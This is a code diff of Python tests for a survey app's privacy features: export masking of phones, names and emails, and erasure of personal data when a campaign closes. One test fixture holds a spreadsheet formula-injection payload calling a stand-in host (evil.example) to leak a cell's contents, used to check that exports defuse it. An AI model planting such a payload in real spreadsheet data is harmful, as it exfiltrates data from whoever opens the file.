@@ -156,14 +156,16 @@ def test_no_exported_cell_is_a_formula(formula):
 
 
 def test_the_responses_export_masks_and_defuses_comments(runner, open_campaign, db, tmp_path):
-    campaign, agency, point = open_campaign
+    campaign, _agency, point = open_campaign
     factories.submission(
         campaign=campaign,
         service_point=point,
         answers={"TC1": 4, "E10": '=HYPERLINK("http://evil.example/?"&A1,"gọi 0912 345 678")'},
     )
     factories.submission(
-        campaign=campaign, service_point=point, answers={"TC1": 5, "E10": "chị Lan, x (at) gmail.com"}
+        campaign=campaign,
+        service_point=point,
+        answers={"TC1": 5, "E10": "chị Lan, x (at) gmail.com"},
     )
     db.session.commit()
     output = tmp_path / "responses.xlsx"
@@ -175,7 +177,8 @@ def test_the_responses_export_masks_and_defuses_comments(runner, open_campaign, 
     comments = [row[header.index("E10")] for row in sheet.iter_rows(min_row=2)]
     assert all(cell.data_type != "f" for cell in comments), "no live formula"
     values = [cell.value for cell in comments]
-    assert values[0].startswith("'=HYPERLINK(") and PHONE_MASK in values[0]
+    assert values[0].startswith("'=HYPERLINK(")
+    assert PHONE_MASK in values[0]
     assert values[1] == f"chị {NAME_MASK}, {EMAIL_MASK}"
 
 
@@ -197,11 +200,13 @@ def test_closing_a_campaign_erases_phones_and_dossier_codes_and_keeps_counts(ope
     change_status(campaign, "closed", actor="t", user_id=None)
     db.session.commit()
     invitations = db.session.scalars(select(Invitation)).all()
-    assert len(invitations) == 3 and sum(i.used_on is not None for i in invitations) == 1
+    assert len(invitations) == 3
+    assert sum(i.used_on is not None for i in invitations) == 1
     assert all(i.phone is None and i.dossier_code is None for i in invitations)
     assert campaign.personal_data_erased_at is not None
     event = db.session.scalar(select(AuditEvent).where(AuditEvent.action == "privacy.erase"))
-    assert event.after["phones_erased"] == 3 and event.after["used"] == 1
+    assert event.after["phones_erased"] == 3
+    assert event.after["used"] == 1
 
 
 def test_the_purge_command_erases_on_demand(runner, open_campaign, db):
@@ -222,7 +227,8 @@ def test_the_purge_command_erases_on_demand(runner, open_campaign, db):
     assert "erased 1 phone numbers and 1 dossier codes" in result.output
     assert db.session.scalar(select(func.count()).where(Invitation.phone.is_not(None))) == 0
     missing = runner.invoke(args=["privacy", "purge", "--campaign", "nope"])
-    assert missing.exit_code != 0 and "nope" in missing.output
+    assert missing.exit_code != 0
+    assert "nope" in missing.output
 
 
 def test_a_closed_campaign_takes_no_answers_by_link_or_code(client, open_campaign, db):
